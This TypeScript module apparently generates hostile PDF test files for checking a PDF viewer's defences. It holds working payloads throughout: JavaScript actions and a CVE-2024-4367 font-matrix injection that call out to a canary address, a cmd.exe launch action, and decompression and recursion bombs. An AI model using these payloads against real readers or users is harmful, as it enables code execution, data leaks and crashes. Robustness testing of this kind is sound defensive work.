import { constants, deflateRawSync } from 'node:zlib'

/** A PDF made to harm. `canary`: an address nothing may ever be asked of. */
export interface MaliciousPdf {
  readonly name: string
  readonly bytes: Buffer
}

const mib = 1024 * 1024

/** Objects by their numbers from 1; the first is the catalog. Without a table of offsets: readers find them themselves. */
function pdfOf(objects: readonly (string | Buffer)[], end = 'trailer\n<< /Root 1 0 R /Size 99 >>\nstartxref\n0\n%%EOF\n'): Buffer {
  const parts = objects.flatMap((object, index) => [Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')])
  return Buffer.concat([Buffer.from('%PDF-1.7\n'), ...parts, Buffer.from(end)])
}
const stream = (about: string, content: Buffer | string): Buffer =>
  Buffer.concat([Buffer.from(`<< ${about} /Length ${content.length} >>\nstream\n`), Buffer.from(content), Buffer.from('\nendstream')])
const words = stream('', 'BT /F1 24 Tf 72 700 Td (Trang binh thuong) Tj ET')
const tree = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'
const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'
/** One page; `more` goes into its dictionary, `content` is object 4, `others` follow from 6. */
const onePage = (
  more: string,
  content: Buffer | string = words,
  others: readonly (string | Buffer)[] = [],
  catalog = '',
  box = '0 0 595 842'
) =>
  pdfOf([
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    tree,
    `<< /Type /Page /Parent 2 0 R /MediaBox [${box}] /Contents 4 0 R ${more || '/Resources << /Font << /F1 5 0 R >> >>'} >>`,
    content,
    font,
    ...others
  ])
/** Data that unpacks to so many times 16 MiB of one byte. */
function inflating(blocks: number, byte: number): Buffer {
  const block = deflateRawSync(Buffer.alloc(16 * mib, byte), { finishFlush: constants.Z_FULL_FLUSH })
  return Buffer.concat([Buffer.from([0x78, 0x9c]), ...Array.from({ length: blocks }, () => block), Buffer.from([0x03, 0x00])])
}
const withFont = (others: readonly (string | Buffer)[], about: string): Buffer =>
  onePage('/Resources << /Font << /F1 6 0 R >> >>', words, [about, ...others])

/** Made anew each time: none of them lies in the repository. */
export function maliciousPdfs(canary: string): readonly MaliciousPdf[] {
  const script = `this.submitForm('${canary}/script'); app.alert('x'); globalThis.hopsoWasHere = true`
  const resources = '/Resources << /Font << /F1 5 0 R >> >>'
  const links = Array.from(
    { length: 20_000 },
    (_, i) =>
      `<< /Type /Annot /Subtype /Link /Rect [${i % 500} ${i % 800} ${(i % 500) + 9} ${(i % 800) + 9}] /A << /S /URI /URI (${canary}/${i}) >> >>`
  ).join(' ')
  const whole = onePage('')
  return [
    {
      name: 'script when opened',
      bytes: onePage(
        `${resources} /AA << /O << /S /JavaScript /JS (${script}) >> >>`,
        words,
        [],
        `/OpenAction << /S /JavaScript /JS (${script}) >>`
      )
    },
    { name: '400 MB from a little', bytes: onePage('/Resources << >>', stream('/Filter /FlateDecode', inflating(25, 32))) },
    {
      name: 'picture of 60,000 squared',
      bytes: onePage('/Resources << /XObject << /I 6 0 R >> >>', stream('', 'q 500 0 0 500 0 0 cm /I Do Q'), [
        stream(
          '/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode',
          inflating(2, 0)
        )
      ])
    },
    { name: 'page of ten million points', bytes: onePage('', words, [], '', '0 0 10000000 10000000') },
    {
      name: 'page tree in a circle',
      bytes: pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 1000000 >>'])
    },
    { name: 'cut in the middle', bytes: whole.subarray(0, Math.floor(whole.length * 0.6)) },
    {
      name: 'links that are scripts and programs',
      bytes: onePage(
        `${resources} /Annots [
          << /Type /Annot /Subtype /Link /Rect [72 600 300 640] /A << /S /URI /URI (javascript:globalThis.hopsoWasHere=true) >> >>
          << /Type /Annot /Subtype /Link /Rect [72 500 300 540] /A << /S /Launch /F (cmd.exe) >> >>
          << /Type /Annot /Subtype /Link /Rect [72 400 300 440] /A << /S /JavaScript /JS (${script}) >> >>
          << /Type /Annot /Subtype /Link /Rect [72 300 300 340] /A << /S /GoToR /F (${canary}/other.pdf) /D [0 /Fit] >> >> ]`
      )
    },
    {
      name: 'file inside',
      bytes: onePage(
        `${resources} /Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [72 600 90 620] /FS 6 0 R >>]`,
        words,
        ['<< /Type /Filespec /F (virus.exe) /EF << /F 7 0 R >> >>', stream('/Type /EmbeddedFile', 'MZ not a program')],
        '/Names << /EmbeddedFiles << /Names [(virus.exe) 6 0 R] >> >>'
      )
    },
    {
      // CVE-2024-4367: a FontMatrix that is code
      name: 'font matrix that is code',
      bytes: withFont(
        ['<< /Type /FontDescriptor /FontName /SNCSTG+CMBX12 /Flags 4 /FontBBox [0 0 1 1] >>'],
        `<< /Type /Font /Subtype /Type1 /BaseFont /SNCSTG+CMBX12 /FontDescriptor 7 0 R /FontMatrix [0.1 0 0 0.1 0 (1\\); globalThis.hopsoWasHere = true; fetch\\('${canary}/font'\\); //)] >>`
      )
    },
    { name: 'nested a hundred thousand times', bytes: onePage(`/Resources ${'['.repeat(100_000)}${']'.repeat(100_000)}`) },
    { name: '20,000 links', bytes: onePage(`${resources} /Annots [${links}]`) },
    {
      name: 'form that sends itself',
      bytes: onePage(
        `${resources} /Annots [<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [72 600 300 640] /AA << /K << /S /JavaScript /JS (${script}) >> >> >>]`,
        words,
        [
          stream(
            '',
            `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script>${script}</script></event></subform></template></xdp:xdp>`
          )
        ],
        '/AcroForm << /XFA 6 0 R /Fields [] >>'
      )
    },
    {
      name: 'contents that lie elsewhere',
      bytes: onePage('', `<< /F << /FS /URL /F (${canary}/contents) >> /Length 0 >>\nstream\n\nendstream`)
    },
    {
      name: 'drawing that calls itself',
      bytes: onePage('/Resources << /XObject << /X 6 0 R >> >>', stream('', '/X Do'), [
        stream('/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>', '/X Do /X Do')
      ])
    }
  ]
}
